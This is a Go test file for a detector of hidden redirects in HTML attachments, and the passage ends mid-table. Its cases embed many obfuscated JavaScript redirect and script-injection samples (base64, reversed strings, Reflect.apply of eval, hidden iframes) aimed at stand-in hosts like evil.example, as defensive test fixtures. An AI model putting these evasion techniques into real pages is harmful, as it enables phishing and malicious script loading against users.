package links

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// TestHiddenRedirectFolded: the forms the last red team found unread (a
// frame's src, a reversed written address, an address assembled from
// the browser's store the script fills) mark an attached page, and a
// variable holding a decoded address, Reflect.apply(eval, ...), an
// invoice's JSON field and an unescaped session-timeout target still do;
// the same shapes without a hidden address do not.
func TestHiddenRedirectFolded(t *testing.T) {
	b := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	pad := strings.Repeat("var qq=1;", 80)
	for _, tc := range []struct {
		name, page string
		hidden     bool
	}{
		// a quote left open (a regular expression holding one) and a quoted ")=>" after it: a call
		{"open() past a regular expression's quote", `<script>open(/'/.source + ")=>" + atob(k))</script>`, true},
		{"window.open() past a regular expression's quote", `<script>window.open(/'/.source + "){" + atob(k))</script>`, true},
		{"a built iframe's src decoded", `<script>var f=document.createElement('iframe');f.style.border='0';f.src=atob("` + b("https://evil.example/login") + `");document.body.appendChild(f)</script>`, true},
		{"a page's iframe read by id", `<iframe id="f"></iframe><script>document.getElementById('f').src = atob('` + b("https://evil.test/x") + `')</script>`, true},
		{"an image read by id beside a frame", `<iframe id=a></iframe><img id=b><script>document.getElementById('b').src = atob(k)</script>`, false},
		{"the second iframe read by id", `<iframe id=a></iframe><iframe id="b"></iframe><script>document.getElementById('b').src = atob(k)</script>`, true},
		{"a frame read by id written after the script", `<img id=a><script>document.getElementById("late").src=atob(k)</script><iframe width=0 id=late></iframe>`, true},
		{"a frame's id in upper case", `<IFRAME ID="Main"></IFRAME><script>document.getElementById('Main').src=atob(k)</script>`, true},
		{"an iframe read by querySelector of its id", `<img id=a><iframe id=b></iframe><script>document.querySelector('#b').src=atob(k)</script>`, true},
		{"an image read by querySelector of its id beside a frame", `<img id=a><iframe id=b></iframe><script>document.querySelector('#a').src=atob(k)</script>`, false},
		{"a name holding a frame read by id", `<iframe id=x></iframe><img id=y><script>var e=document.getElementById('x');e.src=atob(k)</script>`, true},
		{"a name holding an image read by id beside a frame", `<iframe id=x></iframe><img id=y><script>var e=document.getElementById('y');e.src=atob(k)</script>`, false},
		{"an element read by a computed id beside a frame", `<iframe id=x></iframe><script>document.getElementById(n).src=atob(k)</script>`, true},
		{"an element read by a class selector beside a frame", `<iframe class=v></iframe><script>document.querySelector('.v').src=atob(k)</script>`, true},
		{"a frameset read by id", `<frameset id=b rows="*"></frameset><script>document.getElementById('b').src=atob(k)</script>`, false},
		{"a frame in a frameset read by id", `<frameset rows="*"><frame id=b name=b></frameset><script>document.getElementById('b').src=atob(k)</script>`, true},
		// Only a whole single literal is compared with the frames' ids; an id set by script makes them incomplete (review B F6)
		{"a frame read by an id in pieces", `<iframe id=f></iframe><script>document.getElementById(''+'f').src=atob(k)</script>`, true},
		{"a frame read by a template literal id", "<iframe id=f></iframe><script>var e=document.getElementById(`f${''}`);e.src=atob(k)</script>", true},
		{"a frame read by a plain template literal id of another element", "<iframe id=f></iframe><img id=g><script>var e=document.getElementById(`g`);e.src=atob(k)</script>", false},
		{"a frame given its id by script", `<iframe></iframe><script>document.getElementsByTagName('iframe')[0].id='b';document.getElementById('b').src=atob(k)</script>`, true},
		{"a built frame given an id", `<iframe src="https://www.example.com/ad"></iframe><script>var f=document.createElement('iframe');f.id='b';document.body.appendChild(f);document.getElementById('b').src=atob(k)</script>`, true},
		{"a frame given its id by setAttribute", `<iframe></iframe><script>document.querySelector('iframe').setAttribute('id','b');document.getElementById('b').src=atob(k)</script>`, true},
		// An attribute's name in any case; ids set by Object.assign and jQuery
		{"a frame given its id by setAttribute in upper case", `<iframe></iframe><img id=a><script>document.querySelector('iframe').setAttribute('ID','b');document.getElementById('b').src=atob(k)</script>`, true},
		{"a frame given its id by setAttributeNS", `<iframe></iframe><script>document.querySelector('iframe').setAttributeNS(null, "Id", 'b');document.getElementById('b').src=atob(k)</script>`, true},
		{"a frame given its id by Object.assign", `<iframe></iframe><script>Object.assign(document.getElementsByTagName('iframe')[0], {title: 'x', id: 'v'});document.getElementById('v').src=atob(k)</script>`, true},
		{"a frame given its id by Object.assign, the key quoted", `<iframe></iframe><script>var f=document.querySelector('iframe');Object.assign(f,{"id":"v"});document.getElementById('v').src=atob(k)</script>`, true},
		{"a frame given its id by Object.assign's shorthand", `<iframe></iframe><script>var id='v';Object.assign(frames[0].frameElement,{id});document.getElementById('v').src=atob(k)</script>`, true},
		{"a frame given its id by jQuery", `<iframe></iframe><script>$('iframe').attr('id','v');document.getElementById('v').src=atob(k)</script>`, true},
		{"a frame given its id by jQuery's object", `<iframe></iframe><script>$('iframe').attr({ id : 'v' });document.getElementById('v').src=atob(k)</script>`, true},
		{"an image read by id beside a frame, another key assigned", `<iframe id=a></iframe><img id=b><script>Object.assign(cfg, {uid: 'b', idle: 3});document.getElementById('b').src=atob(k)</script>`, false},
		{"an image read by id beside a frame, an id key outside the call", `<iframe id=a></iframe><img id=b><script>Object.assign(cfg, {x: 1});var o={id: 2};document.getElementById('b').src=atob(k)</script>`, false},
		{"an image read by id beside a frame, another attribute set", `<iframe id=a></iframe><img id=b><script>x.setAttribute('idx','1');$(x).attr('title','id');document.getElementById('b').src=atob(k)</script>`, false},
		{"an id compared, not set, beside a frame", `<iframe id=a></iframe><img id=b><script>if(x.id==='b'){}document.getElementById('b').src=atob(k)</script>`, false},
		{"an image read by id beside more frames than are read", strings.Repeat("<iframe></iframe>", maxFrameIDs+1) + `<img id=b><script>document.getElementById('b').src=atob(k)</script>`, true},
		{"the second iframe by tag name", `<iframe src="https://www.example.com/"></iframe><iframe></iframe><script>document.getElementsByTagName('iframe')[1].src=atob(k)</script>`, true},
		{"any iframe of a list held in a name", `<iframe></iframe><script>var fs=document.querySelectorAll("iframe");for(var i=0;i<fs.length;i++){fs[i].src=atob(k)}</script>`, true},
		{"an image of a list held in a name beside a frame", `<iframe></iframe><script>var im=document.getElementsByTagName('img');im[0].src=atob(k)</script>`, false},
		{"a frame read by its name", `<iframe name="view"></iframe><script>document.getElementsByName('view')[0].src=atob(k)</script>`, true},
		{"an image read by its name beside a frame", `<iframe name=view></iframe><img name=logo><script>document.getElementsByName('logo')[0].src=atob(k)</script>`, false},
		{"a frame by the window's name for its id", `<iframe id=view></iframe><script>view.src=atob(k)</script>`, true},
		{"a frame by the window's property for its id", `<iframe id=view></iframe><script>window.view.src=atob(k)</script>`, true},
		{"an image by the window's name for its id beside a frame", `<iframe id=view></iframe><img id=logo><script>logo.src=atob(k);window.logo.src=atob(k)</script>`, false},
		{"a name of a frame's id holding an image", `<iframe id=view></iframe><script>var view=new Image();view.src=atob(k)</script>`, false},
		// jQuery's attr and prop, and document.all, reading the page's frames
		{"a frame's src set by jQuery's attr", `<iframe id="f" width=0 height=0></iframe><script>$('#f').attr('src', atob('` + b("https://evil.test/x") + `'))</script>`, true},
		{"a frame's src set by jQuery's prop", `<iframe id=f></iframe><script>jQuery("#f").prop("src", unescape(k))</script>`, true},
		{"a frame's src set by jQuery's attr of an object", `<iframe id=f></iframe><script>$('#f').attr({width: 0, src: atob(k)})</script>`, true},
		{"a frame selected by tag by jQuery", `<script>$('iframe').first().attr('src', atob(k))</script>`, true},
		{"a frame picked by jQuery's eq", `<iframe></iframe><iframe id=f></iframe><script>$('#f').eq( 0 ).prop('src', atob(k))</script>`, true},
		{"a frame held in a name wrapped by jQuery", `<iframe id=f></iframe><script>var e=document.getElementById('f');$(e).attr('src', atob(k))</script>`, true},
		{"a frame read by jQuery into a name", `<iframe id=f></iframe><script>var e=$('#f');e.attr('src', atob(k))</script>`, true},
		{"an image's src set by jQuery beside a frame", `<iframe id=f></iframe><img id=g><script>$('#g').attr('src', atob(k));$('<img>').attr('src', atob(k))</script>`, false},
		{"an image held in a name wrapped by jQuery beside a frame", `<iframe id=f></iframe><script>var i=new Image();$(i).attr({src: atob(k)})</script>`, false},
		{"jQuery's attr of another key beside a frame", `<iframe id=f></iframe><script>$('#f').attr({title: atob(k), 'data-src': atob(k)})</script>`, false},
		{"a frame of document.all by id", `<iframe id=f></iframe><script>document.all.f.src=atob(k)</script>`, true},
		{"a frame of document.all by name, bracketed", `<iframe name=v></iframe><script>document.all['v'].src=atob(k)</script>`, true},
		{"a frame of document.all called", `<iframe name=v></iframe><script>document.all('v').src=atob(k);</script>`, true},
		{"a frame of document.all's namedItem into a name", `<iframe id=v></iframe><script>var e=document.all.namedItem('v');e.setAttribute('src',atob(k))</script>`, true},
		{"an image of document.all beside a frame", `<iframe id=f></iframe><img id=g name=h><script>document.all.g.src=atob(k);document.all('h').src=atob(k)</script>`, false},
		{"a frame of document.all's item, its src set", `<iframe id=f></iframe><script>document.all.item('f').src=atob(k)</script>`, true},
		{"a frame of document.all's namedItem, its src set", `<iframe id=f></iframe><script>document.all.namedItem('f').src=atob(k)</script>`, true},
		{"a frame of document.all's item by setAttribute", `<iframe id=f></iframe><script>document.all.item('f').setAttribute('src',atob(k))</script>`, true},
		{"a frame of document.all called, by setAttribute", `<iframe id=f></iframe><script>document.all('f').setAttribute('src',atob(k))</script>`, true},
		{"a frame of document.all's namedItem in jQuery", `<iframe id=f></iframe><script>$(document.all.namedItem('f')).attr('src',atob(k))</script>`, true},
		{"an image of document.all's namedItem beside a frame", `<iframe id=f></iframe><img id=g><script>document.all.namedItem('g').src=atob(k);document.all.item('g').setAttribute('src',atob(k))</script>`, false},
		{"an iframe's src set by setAttribute", `<script>var f=document.createElement("iframe");f.setAttribute("src", unescape(k))</script>`, true},
		// A navigation called through call, apply or Reflect.set, the window's open alone or another window's, a src set by Object.assign
		{"location.assign by call", `<script>location.assign.call(location, atob('` + b("https://evil.example/") + `'))</script>`, true},
		{"location.replace by apply", `<script>var u=atob(k);window.location.replace.apply(window.location, [u])</script>`, true},
		{"window.open by call", `<script>window.open.call(window, atob(k), '_self')</script>`, true},
		{"open alone", `<script>var u=atob(k);open(u,'_self')</script>`, true},
		{"open alone by apply", `<script>open.apply(null, [decodeURIComponent(k), '_top'])</script>`, true},
		{"another name of the window's open", `<script>self.open(atob(k));</script>`, true},
		{"the location set by Reflect.set", `<script>Reflect.set(location, 'href', atob(k))</script>`, true},
		{"the window's location set by Reflect.set", `<script>Reflect.set( window , "location" , atob(k) )</script>`, true},
		{"location.assign bound and called at once", `<script>location.assign.bind(location)(atob(k))</script>`, true},
		{"window.open by call, white space before the call", `<script>window.open .call(window, atob(k))</script>`, true},
		{"a built frame's src set by Object.assign's second source", `<script>document.body.appendChild(Object.assign(document.createElement('iframe'), {width:0}, {src: atob(k)}))</script>`, true},
		{"a library's function bound and called", `<script>fn.bind(this)(atob(k));location.assign.bind(location);cb.bind(null) (atob(k))</script>`, false},
		{"a built image's src set by Object.assign's second source", `<script>document.body.appendChild(Object.assign(document.createElement('img'), {width:0}, {src: atob(k)}))</script>`, false},
		{"a built frame's src set by Object.assign", `<script>document.body.appendChild(Object.assign(document.createElement('iframe'), {width: 0, src: atob(k)}))</script>`, true},
		{"a page's frame's src set by Object.assign", `<iframe id=v></iframe><script>var f=document.getElementById('v');Object.assign(f, {"src": atob(k)})</script>`, true},
		{"a built script's src set by Object.assign", `<script>document.head.appendChild(Object.assign(document.createElement('script'), {src: atob('` + b("https://evil.example/k.js") + `')}))</script>`, true},
		// A quoted bracket is no bracket: the key after it is read (topLevel)
		{"a built frame's src set by Object.assign after a quoted parenthesis", `<script>document.body.appendChild(Object.assign(document.createElement('iframe'), {title: ')', src: atob(k)}))</script>`, true},
		{"a frame's src set by jQuery's attr of an object after a quoted brace", `<iframe id=f></iframe><script>$('#f').attr({title: '}', src: atob(k)})</script>`, true},
		{"a frame given its id by Object.assign after a quoted parenthesis", `<iframe></iframe><img id=a><script>Object.assign(document.querySelector('iframe'), {title: ')', id: 'b'});document.getElementById('b').src=atob(k)</script>`, true},
		// A backslash escapes a quote in a string; a quote the scanner cannot pair (a regex literal's, a
		// template's ${'`'}) leaves callArgs and objectKey counting brackets quote-blind (blindLevel).
		{"a built frame's src set by Object.assign after an escaped quote", `<script>document.body.appendChild(Object.assign(document.createElement('iframe'), {title: 'it\'s', src: atob(k)}))</script>`, true},
		{"a frame's src set by jQuery's attr after an escaped quote", `<iframe id=f></iframe><script>$('#f').attr({title: 'it\'s', src: atob(k)})</script>`, true},
		{"a built frame's src set by Object.assign after an escaped double quote", `<script>document.body.appendChild(Object.assign(document.createElement('iframe'), {title: "say \"", src: atob(k)}))</script>`, true},
		{"a built frame's src set by Object.assign after a regex literal holding a quote", `<script>document.body.appendChild(Object.assign(document.createElement('iframe'), {t: /'/.source, src: atob(k)}))</script>`, true},
		{"a built frame's src set by Object.assign after a template holding a backtick", "<script>document.body.appendChild(Object.assign(document.createElement('iframe'), {t: `${'`'}`, src: atob(k)}))</script>", true},
		{"a built frame's src set by Object.assign's second source after an escaped quote", `<script>document.body.appendChild(Object.assign(document.createElement('iframe'), {title: 'it\'s'}, {src: atob(k)}))</script>`, true},
		{"a built image's src set by Object.assign after an escaped quote", `<script>Object.assign(document.createElement('img'), {title: 'it\'s', src: atob(k)})</script>`, false},
		// White space after the method's dot and before its parenthesis.
		{"location.assign bound with white space before the parentheses", `<script>location.assign .bind (location) (atob(k))</script>`, true},
		{"window.open by call, white space after the dot", `<script>window.open. call(window, atob(k))</script>`, true},
		{"window.open by apply, a tab before the dot", "<script>window.open\t.apply (window, [atob(k)])</script>", true},
		{"a library's function called with white space", `<script>fn. call(this, atob(k));cb .apply (null, [atob(k)]);recall (atob(k));x.callback (atob(k))</script>`, false},
		{"a src key inside a quoted string beside a frame", `<iframe id=f></iframe><script>$('#f').attr({title: '{src: 1}, ', alt: atob(k)});Object.assign(document.createElement('iframe'), {title: "', src: x"})</script>`, false},
		{"a request's open", `<script>var x=new XMLHttpRequest();x.open('GET', atob(k))</script>`, false},
		{"a function named open declared", `<script>function open(u){return u};var x=atob(k)</script>`, false},
		{"a method named open declared", `<script>class A{ open(u) { this.u=u } };var u=atob(k);var o={open(u){return 1}}</script>`, false},
		{"a library's function called", `<script>fn.call(this, atob(k));cb.apply(null, [atob(k)])</script>`, false},
		{"another object's key set by Reflect.set", `<script>Reflect.set(cfg, 'href', atob(k));Reflect.set(location, 'hash', atob(k))</script>`, false},
		{"a built image's src set by Object.assign", `<script>document.body.appendChild(Object.assign(document.createElement('img'), {src: atob(k)}));var i=new Image();Object.assign(i, {src: atob(k)})</script>`, false},
		{"a decoded variable into location", `<script>var x="` + b("https://evil.example/") + `";var u = atob(x); window.location = u;</script>`, true},
		{"a decoded variable far before location.href", `<script>var u = atob(x);` + pad + `location.href = u;</script>`, true},
		{"Reflect.apply of eval", `<script>Reflect.apply(eval, window, [atob("` + b("window.location.href='https://evil.example/'") + `")])</script>`, true},
		{"a reversed address", `<script>window.location.href = "moc.elpmaxe.live//:sptth".split("").reverse().join("");</script>`, true},
		{"a reversed address held in a name", `<script>var r="nigol/tset.live//:sptth";var u=r.split('').reverse().join('');location.replace(u)</script>`, true},
		{"a reversed address by Array.from", `<script>location.href=Array.from('tset.live//:sptth').reverse().join('')</script>`, true},
		{"a reversed address by spreading", `<script>location.href=[...'tset.live//:sptth'].reverse().join('')</script>`, true},
		{"an address from cookie and storage pieces", `<script>document.cookie="a=https://;path=/";localStorage.setItem("b","evil.example/login");var u=document.cookie.split("a=")[1].split(";")[0]+localStorage.getItem("b");window.location=u</script>`, true},
		{"an address from storage pieces inline", `<script>localStorage.setItem("h","evil.test");location.href="https://"+localStorage.getItem("h")+"/login"</script>`, true},
		{"an invoice's JSON url field", `<script>var inv=JSON.parse(atob("` + b(`{"invoice":"INV-2231","amount":"1,240.00","url":"https://evil.example/pay"}`) + `"));window.location.href=inv.url</script>`, true},
		{"a session-timeout page's unescaped target", `<title>Session timed out</title><script>setTimeout(function(){window.location.href=unescape("%68%74%74%70%73%3a%2f%2f%65%76%69%6c%2e%65%78%61%6d%70%6c%65%2f")},3000)</script>`, true},
		{"Reflect.apply of eval on a decoded name", `<script>var c=atob(k);` + pad + `Reflect.apply(eval, undefined, [c])</script>`, true},
		{"Reflect.apply of Function", `<script>Reflect.apply(Function, null, [atob(k)])()</script>`, true},
		{"a reversal spaced out", `<script>location.href = "tset.live//:sptth" .split( "" ) .reverse() .join( "" )</script>`, true},
		{"a reversal by tagged templates", "<script>location.href=`tset.live//:sptth`.split``.reverse().join``</script>", true},
		{"a frame's src from a decoded name", `<script>var u=atob(k);var f=document.createElement('iframe');f.src=u</script>`, true},
		{"a querySelector'd iframe's src", `<script>document.querySelector('iframe').src=atob(k)</script>`, true},
		{"session storage pieces", `<script>sessionStorage.setItem('p','https://evil');sessionStorage.setItem('q','.test/');window.open(sessionStorage.getItem('p')+sessionStorage.getItem('q'))</script>`, true},
		{"Reflect.apply of a library's function", `<script>var c=atob(k);Reflect.apply(fn, this, [c])</script>`, false},
		{"a reversed word", `<script>var w="olleh".split("").reverse().join("");location.href='/greet?w='+w</script>`, false},
		{"a reversed list, no string", `<script>var a=[1,2,3].reverse().join(",");location.href='/n?'+a</script>`, false},
		{"a built script's src decoded", `<script>var s=document.createElement('script');s.src=atob("` + b("https://evil.example/k.js") + `");document.head.appendChild(s)</script>`, true},
		{"a built script's src by setAttribute", `<script>var s = document.createElement( "script" );s.setAttribute("src", unescape(k));document.body.appendChild(s)</script>`, true},
		{"a built script's src from a decoded name", `<script>var u=atob(k);var s=document.createElement(` + "`script`" + `);s.src=u;document.body.append(s)</script>`, true},
		{"a built anchor's decoded href clicked", `<script>var a=document.createElement('a');a.href=atob(k);a.click()</script>`, true},
		{"a built anchor's decoded href, a click dispatched", `<script>var a=document.createElement('a');a.href=atob(k);a.dispatchEvent(new MouseEvent('click'))</script>`, true},
		{"an anchor's decoded href, another event dispatched", `<script>var a=document.createElement('a');a.href=atob(k);a.dispatchEvent(new Event('focus'))</script>`, false},
		{"an image's src", `<script>var i=new Image();i.src=atob(x)</script>`, false},
		{"a loader's scripts from its decoded configuration", `<script>var cfg=JSON.parse(decodeURIComponent(document.getElementById('c').getAttribute('data-config')));cfg.scripts.forEach(function(u){var s=document.createElement('script');s.src=u;document.head.appendChild(s)})</script>`, false},
		{"a widget's script from a base64 configuration", `<script>var conf=JSON.parse(atob(document.body.getAttribute('data-c')));var el=document.createElement("script");el.async=true;el.src=conf.widget;document.body.appendChild(el)</script>`, false},
		{"a built script's src from a name decoded far before", `<script>var u=unescape(k);` + strings.Repeat("var x=1;", 60) + `var s=document.createElement('script');s.src=u;document.head.appendChild(s)</script>`, true},
		{"a built script's src from a written base64 JSON's field", `<script>var k="` + b(`{"u":"https://evil.example/k.js"}`) + `";var s=document.createElement('script');s.src=JSON.parse(atob(k)).u;document.head.appendChild(s)</script>`, true},
		{"a built script's src from an inline base64 JSON's field", `<script>var s=document.createElement('script');s.setAttribute('src', JSON.parse(atob('` + b(`{"a":1,"u":"//evil.example/k.js"}`) + `')).u);document.head.appendChild(s)</script>`, true},
		{"a built script's src from a name holding decoded JSON", `<script>var c=JSON.parse(atob("` + b(`{"theme":"dark","src":"https://evil.example/k.js"}`) + `"));var s=document.createElement('script');s.src=c.src;document.head.appendChild(s)</script>`, true},
		{"a nested field of decoded JSON, its key in upper case", `<script>var c=JSON.parse(decodeURIComponent('` + url.PathEscape(`{"Cfg":{"URL":"https://evil.example/k.js"}}`) + `'));var s=document.createElement('script');s.src=c.Cfg.URL.trim();document.body.append(s)</script>`, true},
		{"an item of a decoded JSON list", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b(`["x","data:text/javascript,location='https://evil.example/'"]`) + `'))[1];document.head.appendChild(s)</script>`, true},
		{"a decoded JSON string", `<script>var u=JSON.parse(atob('` + b(`"https://evil.example/k.js"`) + `'));var s=document.createElement('script');s.src=u;document.head.appendChild(s)</script>`, true},
		{"a computed field of decoded JSON holding an address", `<script>var c=JSON.parse(atob("` + b(`{"x":"https://evil.example/k.js"}`) + `"));var s=document.createElement('script');s.src=c[key];document.head.appendChild(s)</script>`, true},
		{"a written base64 JSON's field of no address", `<script>var k="` + b(`{"u":"/static/app.js","theme":"dark"}`) + `";var s=document.createElement('script');s.src=JSON.parse(atob(k)).u;document.head.appendChild(s)</script>`, false},
		{"another field than the address of decoded JSON", `<script>var c=JSON.parse(atob("` + b(`{"cdn":"https://cdn.example/","file":"app.js"}`) + `"));var s=document.createElement('script');s.src=c.file;document.head.appendChild(s)</script>`, false},
		{"decoded JSON of a string the page holds", `<script>var s=document.createElement('script');s.src=JSON.parse(atob(document.body.dataset.c)).u;document.head.appendChild(s)</script>`, false},
		{"a base64 JSON written in pieces", `<script>var k='` + b(`{"u":"https://evil.example/k.js"}`)[:8] + `'+'` + b(`{"u":"https://evil.example/k.js"}`)[8:] + `';var s=document.createElement('script');s.src=JSON.parse(atob(k)).u;document.head.appendChild(s)</script>`, true},
		{"a base64 JSON through a second name", `<script>var a='` + b(`{"u":"https://evil.example/k.js"}`) + `';var k=a;var s=document.createElement('script');s.src=JSON.parse(atob(k)).u;document.head.appendChild(s)</script>`, true},
		{"the UTF-8 idiom around atob", `<script>var s=document.createElement('script');s.src=JSON.parse(decodeURIComponent(escape(atob('` + b(`{"u":"https://evil.example/k.js"}`) + `')))).u;document.head.appendChild(s)</script>`, true},
		{"a decoded string that is no JSON", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b(`https://evil.example/k.js`) + `'));document.head.appendChild(s)</script>`, false},
		// What the script does to the JSON's field, and the address as the URL parser reads it (review B F5)
		{"a reversed JSON field", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b(`{"u":"sj.k/elpmaxe.live//:sptth"}`) + `')).u.split('').reverse().join('');document.head.appendChild(s)</script>`, true},
		{"a reversed field of a name holding decoded JSON", `<script>var c=JSON.parse(atob('` + b(`{"u":"sj.k/elpmaxe.live//:sptth"}`) + `'));var s=document.createElement('script');s.src=c.u.split('').reverse().join('');document.head.appendChild(s)</script>`, true},
		{"a trimmed JSON field of no address", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b(`{"u":"/static/app.js"}`) + `')).u.trimStart();document.head.appendChild(s)</script>`, false},
		// JavaScript's trim removes a no-break space and the other Unicode spaces, which the URL parser keeps
		{"a JSON field led by a no-break space, trimmed", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b(`{"u":"\u00a0https://evil.example/k.js"}`) + `')).u.trim();document.head.appendChild(s)</script>`, true},
		{"a field of a name holding decoded JSON led by spaces, trimmed", `<script>var c=JSON.parse(decodeURIComponent('` + url.PathEscape("{\"u\":\"\u3000\ufeff\u2028https://evil.example/k.js\"}") + `'));var s=document.createElement('script');s.src=c.u.trimStart();document.head.appendChild(s)</script>`, true},
		{"a JSON field led by a no-break space, untrimmed", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b(`{"u":"\u00a0https://evil.example/k.js"}`) + `')).u;document.head.appendChild(s)</script>`, false},
		{"a JSON field led by a no-break space, its end trimmed", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b(`{"u":"\u00a0https://evil.example/k.js"}`) + `')).u.trimEnd();document.head.appendChild(s)</script>`, false},
		{"a JSON field led by U+0085, trimmed", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b(`{"u":"\u0085https://evil.example/k.js"}`) + `')).u.trim();document.head.appendChild(s)</script>`, false},
		{"atob's bytes of a no-break space in UTF-8 are two characters", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b("{\"u\":\"\u00a0https://evil.example/k.js\"}") + `')).u.trim();document.head.appendChild(s)</script>`, false},
		{"a tab inside the JSON field's scheme", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b("{\"u\":\"ht\\ttps://evil.example/k.js\"}") + `')).u;document.head.appendChild(s)</script>`, true},
		{"a control byte before the JSON field's scheme", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b(`{"u":"\u0001https://evil.example/k.js"}`) + `')).u;document.head.appendChild(s)</script>`, true},
		{"an https address with no slashes", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b(`{"u":"https:evil.example/k.js"}`) + `')).u;document.head.appendChild(s)</script>`, true},
		{"an https address with backslashes", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b(`{"u":"HTTPS:\\\\evil.example\\k.js"}`) + `')).u;document.head.appendChild(s)</script>`, true},
		{"a scheme-relative address with backslashes", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b(`{"u":"\\\\evil.example/k.js"}`) + `')).u;document.head.appendChild(s)</script>`, true},
		{"an optional computed key of decoded JSON", `<script>var c=JSON.parse(atob("` + b(`{"u":"https://evil.example/k.js","t":"dark"}`) + `"));var s=document.createElement('script');s.src=c?.["u"];document.head.appendChild(s)</script>`, true},
		{"an optional computed key of decoded JSON of no address", `<script>var c=JSON.parse(atob("` + b(`{"u":"https://evil.example/k.js","t":"dark"}`) + `"));var s=document.createElement('script');s.src=c?.["t"];document.head.appendChild(s)</script>`, false},
		{"a relative path named like a scheme's word", `<script>var s=document.createElement('script');s.src=JSON.parse(atob('` + b(`{"u":"httpsx/k.js"}`) + `')).u;document.head.appendChild(s)</script>`, false},
		{"a built image's src", `<script>var i=document.createElement('img');i.src=atob(x);document.body.appendChild(i)</script>`, false},
		{"a built stylesheet link's href", `<script>var l=document.createElement('link');l.rel='stylesheet';l.href=atob(x);document.head.appendChild(l)</script>`, false},
		{"a built scripts list's src", `<script>var s=document.createElement('noscript');s.src=atob(x)</script>`, false},
		{"a script's src from location", `<script>var s=document.createElement('script');s.src='https://cdn.example/a.js'</script>`, false},
		{"an iframe's src in clear", `<script>var f=document.createElement('iframe');f.src='https://video.example/embed/1'</script>`, false},
		{"a return address kept in storage", `<script>localStorage.setItem('back',location.href);location.href=localStorage.getItem('back')</script>`, false},
		{"a language kept in storage", `<script>localStorage.setItem('lang','en');location.href='/'+localStorage.getItem('lang')</script>`, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := hiddenRedirect([]byte(tc.page)); got != tc.hidden {
				t.Errorf("hiddenRedirect = %v, want %v", got, tc.hidden)
			}
		})
	}
}

// TestReadFrames: the ids of a document's iframe and frame elements, any
// of them, lower-cased; a frameset is none, and more frames than are
// read, or a tag that does not end where it is read, leave the ids
// incomplete.
func TestReadFrames(t *testing.T) {
	long := strings.Repeat("x", maxFrameTag)
	for _, tc := range []struct {
		name, doc string
		want      frameSet
	}{
		{"none", `<img id=a>`, frameSet{all: true}},
		{"every frame's id", `<iframe id=A></iframe><p id=b><IFRAME name=N ID="C"><frame id=d id=e name=""><iframe>`, frameSet{true, true, [][]byte{[]byte("a"), []byte("c"), []byte("d")}, [][]byte{[]byte("n")}}},
		{"a frameset is no frame", `<frameset id=f><iframes id=g>`, frameSet{all: true}},
		{"a frame written by a script", `<script>document.write('<iframe id=w src=x>')</script>`, frameSet{true, true, [][]byte{[]byte("w")}, nil}},
		{"a tag longer than is read", `<iframe title="` + long + `" id=z>`, frameSet{any: true}},
		{"more frames than are read", strings.Repeat(`<iframe id=q>`, maxFrameIDs+1), frameSet{any: true, ids: slices.Repeat([][]byte{[]byte("q")}, maxFrameIDs)}},
	} {
		got := readFrames([]byte(tc.doc))
		if got.any != tc.want.any || got.all != tc.want.all || fmt.Sprintf("%q", got.ids) != fmt.Sprintf("%q", tc.want.ids) {
			t.Errorf("%s: readFrames = %+v, want %+v", tc.name, got, tc.want)
		}
	}
}

// TestFoldReversals: a reversed written string is folded, at the same
// length (spaces making up the rest), into unescape of it reversed.
func TestFoldReversals(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`u="cba".split("").reverse().join("");`, `u=unescape('abc')                      ;`},
		{`u=Array.from('ba').reverse().join('');`, `u=unescape('ab')                     ;`},
		{`var r='ba';u=r.split('').reverse().join('')`, `var r='ab';u=unescape(r)                     `},
		{`u=x.reverse().join('')`, `u=x.reverse().join('')`},
		{"u=`ba`.split``.reverse().join``", `u=unescape('ab')`},
		{`u=Array.from('ba') .reverse().join('');`, `u=unescape('ab')                      ;`},
		{`u=[...'ba']  .reverse().join('');`, `u=unescape('ab')                     ;`},
		{`var r='ba';u=Array.from( r ).reverse().join('')`, `var r='ab';u=unescape(r)                      `},
		{`var r='ba';u=[...r].reverse().join('')`, `var r='ab';u=unescape(r)               `},
		{`var r='ba';a=r.split('').reverse().join('');u=r.split('').reverse().join('')`, `var r='ab';a=unescape(r) ;u=unescape(r)`},
	} {
		n := []byte(tc.in)
		s := lowerBytes(n)
		foldReversals(n, s)
		if strings.Join(strings.Fields(string(n)), " ") != strings.Join(strings.Fields(tc.want), " ") || len(n) != len(tc.in) || len(s) != len(n) {
			t.Errorf("foldReversals(%q) = %q, want %q", tc.in, n, tc.want)
		}
	}
}

// TestFoldReflects: Reflect.apply(f, t, [args]) is read as f(args), at
// the same length.
func TestFoldReflects(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`Reflect.apply(eval, window, [c]);`, `eval( c );`},
		{`Reflect.apply(Function, null, [atob(k), 1])()`, `Function( atob(k), 1 )()`},
		{`Reflect.apply(eval, window, c)`, `Reflect.apply(eval, window, c)`},
	} {
		n := []byte(tc.in)
		s := lowerBytes(n)
		foldReflects(n, s)
		if strings.Join(strings.Fields(string(n)), " ") != tc.want || len(n) != len(tc.in) {
			t.Errorf("foldReflects(%q) = %q, want %q", tc.in, n, tc.want)
		}
	}
}

// TestTopLevel: the one bracket scanner counts brackets and skips quoted
// strings whole, as callArgs, topComma and valueExpr read through it.
func TestTopLevel(t *testing.T) {
	for _, tc := range []struct {
		b, stops string
		want     int
	}{
		{"a, b)", ",", 1},
		{"f(a, b), c", ",", 7},
		{"')', b) c", "", 6},
		{`"}", x}`, ",", 3},
		{"`a,(`, b", ",", 5},
